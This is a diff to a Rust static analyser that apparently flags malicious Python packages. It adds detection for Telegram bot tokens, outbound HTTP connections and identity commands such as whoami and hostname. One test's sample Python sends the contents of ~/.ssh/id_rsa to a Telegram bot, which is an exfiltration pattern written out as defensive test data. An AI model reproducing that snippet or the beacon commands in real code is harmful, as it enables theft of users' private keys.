@@ -116,6 +116,9 @@ pub const DECODERS: &[&str] = &[
     "string.maketrans",
     "?.maketrans",
     "?.xor",
+    // Encrypted payloads (Fernet, AES) are hidden the same way: what
+    // `decrypt` gives is read by the rules like any decoded constant.
+    "?.decrypt",
 ];
 
 /// Calls whose result may be text a payload is kept in, besides decoders
@@ -230,6 +233,7 @@ pub fn is_address(s: &str) -> bool {
     // allocation, and most strings are rejected on their first byte.
     let t = s.trim().as_bytes();
     match t.first() {
+        Some(b) if b.is_ascii_digit() && is_bot_token(t) => true,
         Some(b) if b.is_ascii_digit() => {
             let mut parts = 0;
             for part in t.split(|&b| b == b'.') {
@@ -248,6 +252,22 @@ pub fn is_address(s: &str) -> bool {
         _ => false,
     }
 }
+
+/// A Telegram bot's token (`123456789:AA` and 33 more characters): it says
+/// which bot, and so whose chat, receives what the code sends, as a URL
+/// would.
+pub fn is_bot_token(t: &[u8]) -> bool {
+    let Some(colon) = t.iter().position(|&b| b == b':') else { return false };
+    let (id, key) = (&t[..colon], &t[colon + 1..]);
+    (6..=12).contains(&id.len())
+        && id.iter().all(u8::is_ascii_digit)
+        && key.len() == 35
+        && key.starts_with(b"AA")
+        && key.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
+}
+
+/// Command lines that print who runs the code or on which machine.
+const IDENTITY_COMMANDS: &[&str] = &["whoami", "hostname", "id -un", "echo %username%", "echo %computername%"];
 
 /// Calls that say who and where the code runs (the facts an install-time
 /// beacon reports home).
@@ -591,6 +611,29 @@ pub fn static_labels(calls: &[String], names: &[String], strings: &[String]) -> 
     if strings.iter().any(|s| is_address(s)) {
         l |= Labels::ADDRESS;
     }
+    // A connection opened to a host the code names: what goes through it
+    // goes there (`http.client.HTTPSConnection("collector.example")`).
+    if !strings.is_empty()
+        && calls.iter().any(|c| {
+            matches(
+                c,
+                names!(&[
+                    "http.client.HTTPConnection",
+                    "http.client.HTTPSConnection",
+                    "httplib.HTTPConnection",
+                    "httplib.HTTPSConnection",
+                ]),
+            )
+        })
+    {
+        l |= Labels::ADDRESS;
+    }
+    // The output of `whoami` or `hostname` says who and where it runs.
+    if calls.iter().any(|c| c.starts_with("subprocess.") || c.starts_with("os.popen") || c == "commands.getoutput")
+        && strings.iter().any(|s| IDENTITY_COMMANDS.contains(&s.trim().to_ascii_lowercase().as_str()))
+    {
+        l |= Labels::HOST_IDENTITY;
+    }
     for n in names {
         l |= name_static(n);
         // A decoder handed over as a value: `map(chr, ...)`, `map(base64.b64decode, ...)`.
@@ -871,13 +914,33 @@ impl<'f> Flow<'f> {
         let scopes = Scopes::new(facts);
         let mut ids: HashMap<(u32, &'f str), u32> = HashMap::default();
         let mut targets = Vec::with_capacity(facts.assigns.len());
+        let stores = |a: &Assign| a.calls.iter().any(|c| c == crate::facts::STORES);
+        // Where each name is really bound (assigned, or a parameter): a
+        // method call on a name stores into that binding, not a new one.
+        let bound: HashSet<(u32, &str)> = facts
+            .assigns
+            .iter()
+            .filter(|a| !stores(a))
+            .flat_map(|a| {
+                let (scopes, scope) = (&scopes, scopes.at(a.scope_line));
+                a.targets.iter().map(move |t| (scopes.owner(scope, t, facts), t.as_str()))
+            })
+            .collect();
+        let binding = |mut s: u32, name: &str| loop {
+            if s == 0 || bound.contains(&(s, name)) || scopes.binds(s, name) {
+                return s;
+            }
+            s = scopes.parent[s as usize];
+        };
         for a in &facts.assigns {
             let scope = scopes.at(a.scope_line);
+            let stored = stores(a);
             let t: Vec<u32> = a
                 .targets
                 .iter()
                 .map(|t| {
-                    let key = (scopes.owner(scope, t, facts), t.as_str());
+                    let owner = if stored { binding(scope, t) } else { scopes.owner(scope, t, facts) };
+                    let key = (owner, t.as_str());
                     let next = ids.len() as u32;
                     *ids.entry(key).or_insert(next)
                 })
@@ -934,6 +997,12 @@ impl<'f> Flow<'f> {
             &a.names,
             &a.strings,
         ))
+    }
+
+    /// What the variable `name` may hold at `line` (labels from its assignments).
+    pub fn name_labels(&self, line: usize, name: &str) -> Labels {
+        let names = [name.to_owned()];
+        static_labels(&[], &names, &[]).combine(self.labels_read(self.scopes.at(line), &[], &names, &[]))
     }
 
     /// What calling the file's own function `name` gives back: the labels of
@@ -1026,6 +1095,37 @@ mod tests {
     use super::*;
     use crate::python::parse;
 
+    #[test]
+    fn a_bot_token_or_a_connection_host_is_where_sends_go() {
+        let token = format!("{}:AA{}", 712345678, "b".repeat(33));
+        assert!(is_address(&token), "{token}");
+        let src = format!("import telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    bot.send_message(1, 2)\n");
+        let facts = parse(&src);
+        let flow = Flow::new(&facts);
+        assert!(
+            flow.name_labels(4, "bot").has(Labels::ADDRESS),
+            "{:?} {:?}",
+            flow.name_labels(4, "bot"),
+            facts.assigns
+        );
+        let src = format!(
+            "import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    \
+             bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
+        );
+        let facts = parse(&src);
+        let flow = Flow::new(&facts);
+        assert!(
+            flow.name_labels(4, "bot").has(Labels::ADDRESS),
+            "{:?} {:?}",
+            flow.name_labels(4, "bot"),
+            facts.assigns
+        );
+        let src = "import http.client\nc = http.client.HTTPSConnection('collector.example.invalid')\n";
+        let facts = parse(src);
+        assert!(Flow::new(&facts).name_labels(2, "c").has(Labels::ADDRESS));
+        assert!(!is_address("12345:AAshort"));
+    }
+
     fn sink_labels(src: &str, sink: &str) -> Labels {
         let facts = parse(src);
         let flow = Flow::new(&facts);
@@ -1041,12 +1141,37 @@ mod tests {
     fn whole_file_labels(facts: &Facts<'_>) -> (HashMap<(u32, String), Labels>, Scopes, Defined) {
         let scopes = Scopes::new(facts);
         let mut vars: HashMap<(u32, String), Labels> = HashMap::default();
+        // A method call on a name (`x.update(y)`, marked STORES) stores into
+        // the binding its scope sees: the innermost scope that assigns the
+        // name or takes it as a parameter, else the module.
+        let is_store = |a: &Assign| a.calls.iter().any(|c| c == crate::facts::STORES);
+        let real: Defined = facts
+            .assigns
+            .iter()
+            .filter(|a| !is_store(a))
+            .flat_map(|a| {
+                let scope = scopes.at(a.scope_line);
+                a.targets.iter().map(|t| (scopes.owner(scope, t, facts), t.clone())).collect::<Vec<_>>()
+            })
+            .collect();
         let owners: Vec<Vec<(u32, String)>> = facts
             .assigns
             .iter()
             .map(|a| {
                 let scope = scopes.at(a.scope_line);
-                a.targets.iter().map(|t| (scopes.owner(scope, t, facts), t.clone())).collect()
+                a.targets
+                    .iter()
+                    .map(|t| {
+                        if !is_store(a) {
+                            return (scopes.owner(scope, t, facts), t.clone());
+                        }
+                        let mut s = scope;
+                        while s != 0 && !real.contains(&(s, t.clone())) && !scopes.binds(s, t) {
+                            s = scopes.parent[s as usize];
+                        }
+                        (s, t.clone())
+                    })
+                    .collect()
             })
             .collect();
         let defined: Defined = owners.iter().flatten().cloned().collect();
